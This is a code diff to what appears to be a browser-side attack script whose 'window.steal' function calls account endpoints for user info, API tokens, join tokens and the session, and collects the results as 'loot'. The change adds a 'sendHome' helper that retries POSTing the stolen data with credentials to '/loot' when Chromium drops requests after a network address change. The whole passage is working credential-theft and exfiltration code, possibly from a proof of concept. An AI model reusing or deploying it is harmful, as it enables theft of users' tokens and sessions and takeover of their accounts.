@@ -82,6 +82,16 @@ async function opened(url, look) {
 
 const CALLS = [["GET", "/api/v1/me"], ["GET", "/api/v1/tokens"], ["POST", "/api/v1/tokens"], ["DELETE", "/api/v1/session"], ["POST", "/api/v1/join-tokens"], ["PUT", "/api/v1/offers/cpu"]];
 
+/** Once more where Chromium dropped it, as it does with all that is under way when a network address changes. */
+const sendHome = async (loot, tries = 5) => {
+  try {
+    await fetch("/loot", { method: "POST", body: JSON.stringify(loot), credentials: "include" });
+  } catch (failure) {
+    if (tries === 1) throw failure;
+    await sendHome(loot, tries - 1);
+  }
+};
+
 window.steal = async (master) => {
   const body = JSON.stringify({ name: "stolen" });
   const tries = {
@@ -138,6 +148,6 @@ window.steal = async (master) => {
   const quick = Object.entries(tries).filter(([name]) => !slow.includes(name));
   await Promise.all(quick.map(async ([name, work]) => { loot[name] = await outcome(work); }));
   for (const name of slow) loot[name] = await outcome(tries[name]);
-  await fetch("/loot", { method: "POST", body: JSON.stringify(loot), credentials: "include" });
+  await sendHome(loot);
   return loot;
 };
